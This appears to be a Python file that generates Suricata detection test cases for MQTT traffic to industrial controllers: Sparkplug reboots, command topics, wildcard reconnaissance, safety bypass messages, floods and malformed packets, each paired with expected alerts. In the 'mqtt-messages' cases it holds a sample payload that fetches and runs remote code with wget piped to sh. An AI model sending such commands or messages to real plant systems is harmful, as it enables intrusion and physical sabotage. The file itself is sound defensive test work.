"""Cases of MQTT: packets as the specification lays them out, and paho-mqtt with mosquitto."""

import struct
from collections.abc import Sequence

from scapy.layers.inet import TCP
from scapy.packet import Packet
from tests.suricata import themes
from tests.suricata.makers.wire import ATTACKER, HMI, PLC, C, Exchange, S, case, merged, tcp

PORT = 1883

NCMD, DCMD, REBOOT, REBIRTH, NEXT, DEATH, OFFLINE = range(1928001, 1928008)
COMMAND, BURST, MODE, RESTART, CONFIG, MUTE, LIMIT, FIRMWARE, PROGRAM = range(1928010, 1928019)
CONTROL, STATE, JOIN, SHELL, ELF, UNRETAIN, EXE = range(1928019, 1928026)
DEED = 1928009
SAID, SAID_MODE, SAID_RESTART, CLEARED, BLOB, KEPT, UNREPORTED = range(1928026, 1928033)
WILL_COMMAND, WILL_ALARM, OFFERED = range(1928033, 1928036)
ALL_TOPICS, SYS, SPARKPLUG, OTHERS, LEVELS, MANY, TOOL, BROWSER = range(1928040, 1928048)
SEVERAL, CANCELLED = 1928048, 1928049
LOGIN, DEFAULT, REFUSED, TAKEN = range(1928060, 1928064)
DOUBLE, MALFORMED, TYPE, QOS, CONNECTS, FLOOD, CONNECTIONS, LONG = range(1928080, 1928088)
SLASHES, THIRD, THIRD_BYE, PINGS, LARGE, OPENED, CONNECTED, STRANGER, FORGED = range(
    1928088, 1928097
)
NAME = 1928097
ALL_SIDS = [
    *range(NCMD, OFFLINE + 1),
    *range(DEED, OFFERED + 1),
    *range(ALL_TOPICS, CANCELLED + 1),
    *range(LOGIN, TAKEN + 1),
    *range(DOUBLE, NAME + 1),
]


def packet(head: int, body: bytes) -> bytes:
    """A control packet: type and flags, remaining length, body."""
    size, length = len(body), b""
    while True:
        size, low = divmod(size, 128)
        length += bytes([low | 0x80 if size else low])
        if not size:
            return bytes([head]) + length + body


def text(value: str | bytes) -> bytes:
    raw = value.encode() if isinstance(value, str) else value
    return struct.pack("!H", len(raw)) + raw


def connect(
    client: str = "hmi-1",
    user: str = "",
    password: str = "",
    level: int = 4,
    will: tuple[str, bytes] | None = None,
) -> bytes:
    flags = 2 | (0xC0 if user else 0) | (0x2C if will else 0)
    properties = b"\0" if level == 5 else b""
    body = text("MQTT") + bytes([level, flags, 0, 60]) + properties + text(client)
    if will:
        body += properties + text(will[0]) + text(will[1])
    return packet(0x10, body + (text(user) + text(password) if user else b""))


def publish(topic: str, message: bytes = b"1", head: int = 0x30) -> bytes:
    number = b"\0\1" if head & 0x06 else b""
    return packet(head, text(topic) + number + message)


def subscribe(*topics: str, level: int = 4) -> bytes:
    number = b"\0\1" + (b"\0" if level == 5 else b"")
    return packet(0x82, number + b"".join(text(topic) + b"\0" for topic in topics))


CONNACK = bytes.fromhex("20020000")
BAD_PASSWORD = bytes.fromhex("20020004")
SUBACK = bytes.fromhex("9003000100")
PING, PONG = b"\xc0\0", b"\xd0\0"
VALUE = publish("plant/line1/temperature", b"21.5")
SPARK = publish("spBv1.0/plant/DDATA/node1/dev1", bytes.fromhex("08a0d6b0b6dd3112060a0474656d70"))

# recorded between paho-mqtt 2 and mosquitto 2 (subscribe and publish by name)
LAB: Exchange = [
    (C, bytes.fromhex("101100044d5154540402003c0005686d692d31")),
    (S, bytes.fromhex("20020000")),
    (C, bytes.fromhex("82120001000d706c616e742f6c696e65312f2301")),
    (S, bytes.fromhex("9003000101")),
    (C, bytes.fromhex("321f0017706c616e742f6c696e65312f74656d7065726174757265000232312e35")),
    (S, bytes.fromhex("321f0017706c616e742f6c696e65312f74656d7065726174757265000132312e35")),
    (S, bytes.fromhex("40020002")),
    (C, bytes.fromhex("40020001")),
    (C, bytes.fromhex("321f0017706c616e742f6c696e65312f74656d7065726174757265000332312e36")),
    (S, bytes.fromhex("321f0017706c616e742f6c696e65312f74656d7065726174757265000232312e36")),
    (C, bytes.fromhex("40020002")),
    (S, bytes.fromhex("40020003")),
    (C, bytes.fromhex("30190014706c616e742f6c696e65312f7072657373757265342e32")),
    (S, bytes.fromhex("30190014706c616e742f6c696e65312f7072657373757265342e32")),
    (C, bytes.fromhex("e000")),
]


def answer(payload: bytes) -> Exchange:
    """The SUBACK of a subscription: Suricata 7.0 looks at a SUBSCRIBE only when it has come."""
    return [(S, SUBACK)] if payload[0] == 0x82 else []


def session(payloads: Sequence[bytes]) -> list[Packet]:
    """One session: connect, then each packet with a ping between."""
    exchange: Exchange = [(C, connect()), (S, CONNACK)]
    for payload in payloads:
        exchange = [*exchange, (C, payload), *answer(payload), (C, PING), (S, PONG)]
    return tcp(ATTACKER, PLC, PORT, exchange, step=0.02)


def sessions(payloads: Sequence[bytes], answer: bytes = CONNACK) -> list[Packet]:
    """A session for each packet."""
    return merged(
        *(
            tcp(ATTACKER, PLC, PORT, [(C, p), (S, answer)], sport=50000 + n, start=n / 5)
            for n, p in enumerate(payloads)
        )
    )


def often(payload: bytes, times: int, seconds: float) -> list[Packet]:
    exchange = [(C, connect()), (S, CONNACK), *[(C, payload), *answer(payload)] * times]
    return tcp(ATTACKER, PLC, PORT, exchange, step=seconds / times / 2)


def _sparkplug() -> None:
    group = "spBv1.0/plant/"
    reboot = b"\x12\x19\x0a\x13Node Control/Reboot\x20\x0b\x70\x01"
    themes.pair(
        "mqtt-sparkplug",
        "Commands of Sparkplug B, deaths and an application offline.",
        [
            (publish(group + "NCMD/node1", reboot), {NCMD, REBOOT}),
            (publish(group + "DCMD/node1/dev1", b"\x12\x06\x0a\x04SP_1"), {DCMD}),
            (
                publish(
                    group + "NCMD/node1",
                    reboot.replace(b"\x19\x0a\x13", b"\x1a\x0a\x14").replace(b"Reboot", b"Rebirth"),
                ),
                {REBIRTH},
            ),
            (
                publish(
                    group + "NCMD/node1",
                    reboot.replace(b"\x19\x0a\x13", b"\x1e\x0a\x18").replace(
                        b"Reboot", b"Next Server"
                    ),
                ),
                {NEXT},
            ),
            (publish(group + "DDEATH/node1/dev1", b"\x18\x01"), {DEATH}),
            (publish("spBv1.0/STATE/scada", b'{"online": false, "timestamp": 1}'), {OFFLINE}),
        ],
        [
            SPARK,
            publish(group + "NBIRTH/node1", reboot),
            publish(group + "DBIRTH/node1/dev1", b"\x18\x01"),
            publish("spBv1.0/STATE/scada", b'{"online": true, "timestamp": 1}'),
            publish("notes/NCMD", b"text"),
        ],
        session,
    )


def _topics() -> None:
    themes.pair(
        "mqtt-topics",
        "Commands told by the levels of the topic.",
        [
            (publish("plant/pump1/set", b"ON"), {COMMAND}),
            (publish("plant/pump1/stop"), {MODE}),
            (publish("plant/rtu4/reboot"), {RESTART}),
            (publish("plant/rtu4/config/write", b"{}"), {CONFIG}),
            (publish("plant/alarms/7/ack"), {MUTE}),
            (publish("plant/tank/limit/high", b"99"), {LIMIT}),
            (publish("plant/rtu4/firmware/update", b"http://10.10.10.66/x.bin"), {FIRMWARE}),
            (publish("plant/plc1/program/download", b"01"), {PROGRAM}),
            (publish("$CONTROL/dynamic-security/v1", b"{}"), {CONTROL}),
            (publish("$SYS/broker/uptime"), {STATE}),
            (publish("zigbee2mqtt/bridge/request/permit_join", b"true"), {JOIN}),
            (publish("plant/tank/limits", b"", 0x31), {UNRETAIN}),
        ],
        [
            VALUE,
            publish("plc/motor1/load", b"73.2"),
            publish("recipe/line1/load"),
            publish("flow/tank3/load"),
            publish("plant/esd/shutdown/status", b"0"),
            publish("telemetry/pump3/restart_count", b"3"),
            publish("plant/line1/restart/counter", b"3"),
            publish("devices/7/ota/update/progress", b"30"),
            publish("plant/gateway/fw/update/available", b"0"),
            (publish("cmnd/rotary_kiln/speed", b"3.2"), {COMMAND}),
            (publish("command/total/reset"), {COMMAND, MODE}),
            publish("plant/pump1/offset"),
            publish("plant/pump1/settle"),
            publish("plant/rtu4/firmware/version"),
            publish("plant/alarms/7/active"),
            publish("plant/tank/delimiter/highway"),
            publish("plant/rtu4/config/state"),
            publish("plant/plc1/program/name"),
            publish("plant/rtu4/rebooted"),
            publish("zigbee2mqtt/bridge/state"),
            publish("plant/tank/limits", b"80", 0x31),
            publish("plant/$CONTROLS"),
        ],
        session,
    )
    themes.pair(
        "mqtt-messages",
        "Shell commands and executable files as messages.",
        [
            (publish("plant/note", b"1; wget http://10.10.10.66/a -O- | sh "), {SHELL}),
            (publish("plant/blob", b"\x7fELF\x01\x01\x01" + bytes(60)), {ELF}),
            (publish("plant/blob", b"MZ" + bytes(76) + b"This program cannot be run in"), {EXE}),
        ],
        [
            publish("plant/note", b"shift 1; what a day"),
            publish("plant/log", b"job done; sh restarted | bash ok; python ready"),
            publish("plant/blob", b"elf \x7fELF"),
            publish("plant/blob", b"MZ is a name"),
        ],
        session,
    )
    fill = bytes(range(0, 256, 3))
    themes.pair(
        "mqtt-said",
        "Commands told by the message, and to topics of tuning.",
        [
            (publish("plant/pump1/x", b'{"cmd":"write","register":4}', 0x32), {SAID}),
            (publish("plant/pump2/x", b'{"action": "stop"}'), {SAID, SAID_MODE}),
            (publish("plant/pump3/x", b'{"method":"reboot"}'), {SAID, SAID_RESTART}),
            (publish("plant/sis/trip", b'{"trip":false,"bypass":true}', 0x32), {CLEARED}),
            (publish("plant/rtu4/firmware/b", b"BIN0" + fill), {BLOB}),
            (publish("plant/valve/position", b'{"level_target":0}', 0x33), {KEPT}),
            (
                publish("plant/loop1/pid", b'{"reporting_enabled":false}', 0x33),
                {CONFIG, UNREPORTED},
            ),
            (publish("v1/devices/me/attributes", b'{"fw_url":"http://10.9.9.9/x"}'), {OFFERED}),
            (publish("dev/4/rpc/request/1", b"1"), {COMMAND}),
            (publish("spAv1.0/plant/NCMD/node1", b"\x12\0"), {NCMD}),
        ],
        [
            publish("plant/pump1/x", b'{"value":4,"cmd":"write"}'),
            publish("plant/pump2/x", b'{"reaction": "stop"}'),
            publish("plant/sis/trip", b'{"trip":false,"bypass":false}', 0x32),
            publish("plant/rtu4/firmware/b", b"version 1.2.3, built of 2026-11-24" * 4),
            publish("plant/cam/picture", b"BIN0" + fill),
            publish("plant/valve/position", b'{"level_target":0}', 0x30),
            publish("plant/line/x", b'{"reporting_enabled":true}'),
            publish("v1/devices/me/attributes", b'{"fw_version":"1.2"}'),
            publish("plant/tank/rpc", b"1"),
        ],
        session,
    )
    burst = often(publish("plant/pump1/set"), 30, 3)
    case("mqtt-burst", "Thirty commands in 3 s.", burst, {COMMAND: 1, BURST: 1})
    few = often(publish("plant/pump1/set"), 5, 3)
    case("mqtt-commands", "Five commands.", few, {COMMAND: 1}, [BURST])


def _reconnaissance() -> None:
    themes.pair(
        "mqtt-subscribe",
        "Everything subscribed to.",
        [
            (subscribe("#"), {ALL_TOPICS}),
            (subscribe("$SYS/#"), {SYS}),
            (subscribe("spBv1.0/#"), {SPARKPLUG}),
            (subscribe("+/+/NCMD/+"), {OTHERS}),
            (subscribe("plant/+/+/#"), {LEVELS}),
        ],
        [
            subscribe("plant/line1/#"),
            subscribe("plant/line1/+/temperature"),
            subscribe("spBv1.0/plant/NCMD/node1"),
            subscribe("spBv1.0/plant/DDATA/node1/#"),
            subscribe("plant/$SYSTEM"),
            VALUE,
        ],
        session,
    )
    themes.pair(
        "mqtt-subscribe-raw",
        "Without an answer of the broker; version 5; shared; several in one request.",
        [
            (subscribe("/#"), {ALL_TOPICS}),
            (subscribe("$share/g1/#", level=5), {ALL_TOPICS}),
            (subscribe("plant/a", "$SYS/broker/uptime"), {SYS, SEVERAL}),
            (subscribe("+/+/+", level=5), {LEVELS}),
        ],
        [subscribe("$share/g1/plant/a"), subscribe("plant/#"), subscribe("plant/$SYS/a")],
        lambda payloads: tcp(
            ATTACKER, PLC, PORT, [(C, p) for p in (connect(), *payloads)], one_sided=C, step=0.1
        ),
    )
    cancel = packet(0xA2, b"\0\1" + text("plant/a"))
    case("mqtt-cancelled", "Six in 1 s.", often(cancel, 6, 1), {CANCELLED: 1})
    case("mqtt-cancelled-few", "Two.", often(cancel, 2, 1), {}, [CANCELLED, SEVERAL])
    case("mqtt-subscriptions", "120 in 6 s.", often(subscribe("plant/a"), 120, 6), {MANY: 1})
    case("mqtt-subscriptions-few", "Ten.", often(subscribe("plant/a"), 10, 6), {}, [MANY])
    themes.pair(
        "mqtt-connect",
        "Logins and names of tools.",
        [
            (connect("hmi-2", "maria", "Tz7!kk"), {LOGIN}),
            (connect("hmi-2", "maria", "admin"), {DEFAULT}),
            (connect("nmap"), {TOOL}),
            (connect("MQTT-Explorer-1a2b"), {BROWSER}),
        ],
        [
            connect(),
            connect("gateway-17"),
            connect("hmi-3", level=5),
            connect("admin"),
            connect("edge-1", will=("plant/edge-1/status", b"offline")),
            connect("edge-2", level=5, will=("plant/status", b"admin")),
        ],
        sessions,
    )
    themes.pair(
        "mqtt-will",
        "Last wills that command or report an alarm.",
        [
            (connect("edge-1", will=("plant/pump1/cmd", b"STOP")), {WILL_COMMAND}),
            (connect("edge-2", level=5, will=("plant/sis/trip", b"1")), {WILL_ALARM}),
        ],
        [
            connect("cmd-1", will=("plant/pump1/offset", b"/cmd/")),
            connect("edge-2", level=5, will=("plant/status", b"trip")),
            connect(),
        ],
        sessions,
    )
    secret = sessions([connect("hmi-2", "maria", "Tz7!kk")])
    case("mqtt-password", "A password of its own.", secret, {LOGIN: 1}, [DEFAULT])
    known: Exchange = [(C, connect("edge-01", will=("plant/pump1/reboot", b"0"))), (S, CONNACK)]
    order = [(C, publish("plant/pump1/set")), (C, VALUE)]
    words = tcp(ATTACKER, PLC, PORT, [*known, *order])
    case("mqtt-will-known", "The topic of a will.", words, {COMMAND: 1}, [RESTART, MODE])
    edge = connect("edge-01", will=("spBv1.0/plant/NDEATH/node1", b"\x18\x01"))
    node: Exchange = [(C, edge), (S, CONNACK), (C, SPARK), (C, VALUE)]
    case("mqtt-will-node", "The will of a node.", tcp(ATTACKER, PLC, PORT, node), {}, [DEATH])
    topic = "plant/plc1/command/execute/by/name/of/actuator/1"
    asked = packet(0x82, b"\x8a\x12" + text(topic) + b"\0")
    own = tcp(ATTACKER, PLC, PORT, [(C, connect()), (S, CONNACK), (C, asked)])
    case("mqtt-subscribe-own", "Its own commands subscribed to.", own, {}, [DEED, COMMAND, MODE])
    refused = sessions([connect("hmi-2")] * 6, BAD_PASSWORD)
    case("mqtt-refused", "Six logins refused.", refused, {REFUSED: 1})
    refused5 = sessions([connect("hmi-2", level=5)] * 6, bytes.fromhex("2003008600"))
    case("mqtt-refused-5", "Six logins refused (version 5).", refused5, {REFUSED: 1})
    case("mqtt-refused-once", "One.", sessions([connect()], BAD_PASSWORD), {}, [REFUSED])
    hello: Exchange = [(C, connect(level=5)), (S, bytes.fromhex("2003000000"))]
    taken = tcp(HMI, PLC, PORT, [*hello, (S, bytes.fromhex("e0028e00"))])
    case("mqtt-taken", "The session taken over.", taken, {TAKEN: 1})
    closed = tcp(HMI, PLC, PORT, [*hello, (S, bytes.fromhex("e0028b00"))])
    case("mqtt-closed", "The broker shuts down.", closed, {}, [TAKEN])


def _malformed() -> None:
    case("mqtt-double", "Two CONNECT.", session([connect()]), {DOUBLE: 1})
    case("mqtt-third", "Nine.", session([connect()] * 8), {DOUBLE: 1, THIRD: 1})
    bye: Exchange = [(C, b"\xe0\0")] * 5
    case("mqtt-byes", "Four DISCONNECT.", tcp(ATTACKER, PLC, PORT, bye), {THIRD_BYE: 1})
    once: Exchange = [(C, connect()), (S, CONNACK), (C, PING), (S, PONG), (C, b"\xe0\0")]
    own = [THIRD, THIRD_BYE, OPENED, CONNECTED, STRANGER, FORGED, PINGS, NAME, DEED]
    case("mqtt-once", "One of each.", tcp(ATTACKER, PLC, PORT, once), {}, own)
    pings = tcp(ATTACKER, PLC, PORT, [(C, PING)] * 8, step=0.02)
    case("mqtt-pings", "Eight, not answered.", pings, {PINGS: 1})
    asked = tcp(ATTACKER, PLC, PORT, [(C, connect()), *[(C, PING), (S, PONG)] * 8], step=0.02)
    case("mqtt-pings-answered", "Eight, answered.", asked, {}, [PINGS])
    stranger = tcp(ATTACKER, PLC, PORT, [(C, VALUE), (C, subscribe("plant/a"))])
    case("mqtt-stranger", "A value without CONNECT.", stranger, {STRANGER: 1})
    joined = tcp(ATTACKER, PLC, PORT, [(C, VALUE), (C, subscribe("plant/a"))], midstream=True)
    case("mqtt-joined", "The same, joined.", joined, {}, [STRANGER, FORGED])
    forged = [p for p in tcp(ATTACKER, PLC, PORT, [(C, VALUE)] * 3, one_sided=C) if p[TCP].flags.P]
    for frame in forged:
        frame[TCP].ack = 0
    case("mqtt-forged", "Values that acknowledge nothing.", forged, {FORGED: 1})
    name = sessions([packet(0x10, text("AMQP") + b"\4\2\0\x3c" + text("a"))])
    case("mqtt-name", "Another protocol's name.", name, {NAME: 1})
    levels = session([packet(0x82, b"\0\1" + text("/" * 9000) + b"\0")])
    case("mqtt-levels", "9,000 levels.", levels, {SLASHES: 1})
    block = publish("plant/all", bytes(n * 167 % 256 for n in range(2048)))
    case("mqtt-large", "Thirty blocks in 3 s.", often(block, 30, 3), {LARGE: 1})
    text_block = publish("plant/all", b"21.5, 21.6, 21.7 " * 90)
    case("mqtt-large-text", "Text.", often(text_block, 30, 3), {}, [LARGE, SLASHES])
    case("mqtt-type", "Type 0.", session([b"\x00\x02\x00\x01"]), {TYPE: 1})
    case("mqtt-qos", "Quality of service 3.", session([publish("plant/a", b"1", 0x36)]), {QOS: 1})
    bad = session([packet(0x82, b"\0\1\0\xffabc")])
    case("mqtt-malformed", "A subscribe cut short.", bad, {MALFORMED: 1})
    right = session([VALUE, subscribe("plant/a"), PING])
    case("mqtt-well-formed", "None of it.", right, {}, [DOUBLE, TYPE, QOS, MALFORMED, LONG])
    storm = merged(
        *(
            tcp(ATTACKER, PLC, PORT, [(C, connect())], sport=50000 + n, start=n / 10)
            for n in range(60)
        )
    )
    case("mqtt-connect-flood", "Sixty CONNECT in 6 s.", storm, {CONNECTS: 1})
    case("mqtt-connect-some", "Ten.", sessions([connect()] * 10), {}, [CONNECTS, CONNECTIONS])
    flood = often(publish("a/b"), 550, 4)
    case("mqtt-flood", "550 publishes in 4 s.", flood, {FLOOD: 1})
    syns = [
        tcp(ATTACKER, PLC, PORT, [], sport=51000 + n, start=n / 50, close=False)[0]
        for n in range(120)
    ]
    case("mqtt-connections", "120 connections in 2.4 s.", syns, {CONNECTIONS: 1})
    case("mqtt-long", "A topic of 5,000.", session([publish("a" * 5000)]), {LONG: 1})


def _transport() -> None:
    stop, alerts = publish("plant/rtu4/reboot"), {RESTART: 1}
    talk: Exchange = [(C, connect()), (S, CONNACK), (C, VALUE), (C, stop), (C, VALUE)]
    case("mqtt-split", "In segments of 7 octets.", tcp(HMI, PLC, PORT, talk, split=7), alerts)
    case("mqtt-coalesced", "Behind a value.", tcp(HMI, PLC, PORT, talk, coalesce=True), alerts)
    late: Exchange = [(C, VALUE), (C, stop), (C, VALUE)]
    case("mqtt-midstream", "Joined.", tcp(HMI, PLC, PORT, late, midstream=True), alerts)
    server = tcp(HMI, PLC, PORT, [(S, VALUE), *late], midstream=True)
    case("mqtt-midstream-server", "Joined, the broker speaks first.", server, alerts)
    case("mqtt-vlan", "In a VLAN.", tcp(HMI, PLC, PORT, talk, vlan=30), alerts)


def _benign() -> None:
    opening: Exchange = [(C, connect()), (S, CONNACK), (C, subscribe("plant/line1/#")), (S, SUBACK)]
    cycle = [(C, VALUE), (S, SPARK), (C, PING), (S, PONG)]
    polling = tcp(HMI, PLC, PORT, [*opening, *cycle * 30], step=0.1)
    case("mqtt-polling", "Values published.", polling, {}, ALL_SIDS)
    case("mqtt-lab", "paho-mqtt and mosquitto.", tcp(HMI, PLC, PORT, LAB), {}, ALL_SIDS, "lab")
    junk = [b"GET / HTTP/1.1\r\n\r\n", b"\x16\x03\x01" + bytes(80)]
    other = tcp(HMI, PLC, PORT, [(C, payload) for payload in junk])
    case("mqtt-others", "Other protocols on the port.", other, {}, ALL_SIDS)


def make() -> None:
    """Write the cases of MQTT."""
    _sparkplug()
    _topics()
    _reconnaissance()
    _malformed()
    _transport()
    _benign()
